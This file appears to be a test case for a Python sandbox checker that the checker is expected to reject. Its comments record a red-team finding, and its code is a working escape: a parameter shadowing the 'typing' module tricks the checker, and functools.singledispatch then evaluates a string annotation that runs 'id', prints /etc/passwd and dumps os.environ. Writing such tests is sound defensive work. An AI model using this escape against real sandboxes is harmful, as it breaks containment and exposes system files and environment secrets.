# expect: reject module_value
# line: 42
# why: the red team's round 28b ok_01: a parameter named typing made f.register(typing.Any) pass for the library's class (class_proof asks which module a name is bound to by name, not by variable); a name an import binds to a module is now bound by imports alone, in every scope
# ok_01 -- goal 1 (full escape): runs `id`, prints /etc/passwd and os.environ;
#          on the way goal 2: a real eval() with the real builtins (__import__, open).
#
# Mechanism: functools.singledispatch's register(X) with X that is not a class reads
#   getattr(X, '__annotations__') and calls typing.get_type_hints(X).  For an
#   *instance* of a program class, __annotations__ is found on its class (the
#   class body's `x: "..."` annotation, a string), and X has no __globals__, so
#   get_type_hints evaluates the string with globalns = {} -- eval() then supplies
#   the real builtins.  The string is free text to the checker.
#
# Why the checker missed it: analyzer/names.c register_verdict() demands that
#   f.register's first argument be class_proof(); class_proof()'s attribute branch
#   accepts `M.NAME` whenever wk_resolve_module(M) resolves -- and
#   wk_resolve_module (binds.c) uses wk_bound_module(), which answers "module
#   typing" for the identifier `typing` although, inside plant(), `typing` is a
#   *parameter* (the program's own object).  (walker.h itself warns: "def
#   f(typing): makes typing.Union the argument's attribute there" -- that is why
#   wk_module_only / wk_module_path_only exist; class_proof uses neither.)  The
#   module_attribute rule is satisfied by choosing an allowed name (`Any`); the
#   parameter shadowing a module name is not refused; box.Any = Payload() is a
#   store into the program's own object.
import functools
import typing


class Payload:
    x: "(__import__('os').system('id'), print(open('/etc/passwd').read()), print(dict(__import__('os').environ)), int)[-1]"


class Holder:
    pass


@functools.singledispatch
def f(x):
    return 0


def plant(typing):
    f.register(typing.Any)


box = Holder()
box.Any = Payload()
plant(box)
